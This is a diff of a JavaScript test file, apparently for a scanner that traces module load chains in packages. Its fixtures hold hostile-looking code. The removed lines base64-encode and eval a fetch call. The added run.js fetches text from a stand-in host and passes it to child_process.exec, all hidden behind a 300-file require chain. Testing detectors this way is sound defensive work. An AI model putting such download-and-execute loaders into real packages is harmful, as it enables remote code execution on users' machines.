@@ -103,7 +103,6 @@ test('of a large package what runs first is followed', async () => {
 });
 
 test('what an acting module loads is followed beside hundreds of small files that do nothing', async () => {
-  const hidden = Buffer.from("fetch('https://a.example/')").toString('base64');
   const small = Object.fromEntries(
     Array.from({ length: 300 }, (_, i) => [`chain/${i}.js`, `require('./${i + 1}');\n`]),
   );
@@ -112,8 +111,10 @@ test('what an acting module loads is followed beside hundreds of small files tha
     'index.js': "require('./chain/0');\n",
     ...small,
     'chain/300.js': "require('../run');\n",
-    'run.js': "const { blob } = require('./blob');\neval(Buffer.from(blob, 'base64').toString());\n",
-    'blob.js': `// ${'a comment that makes it larger than those '.repeat(3)}\nexports.blob = '${hidden}';\n`,
+    'run.js':
+      "const { put, take } = require('./kept');\nfetch('https://a.example/tool').then((r) => r.text()).then((line) => {\n  put(line);\n  require('child_process').exec(take());\n});\n",
+    'kept.js':
+      'const kept = {};\nexports.put = (line) => {\n  kept.line = line;\n};\nexports.take = () => kept.line;\n',
   });
-  expect(units.get('run.js other-file')?.source.text).toBe("fetch('https://a.example/')");
+  expect(startedBy(units.get('run.js'))).toContain('network');
 });
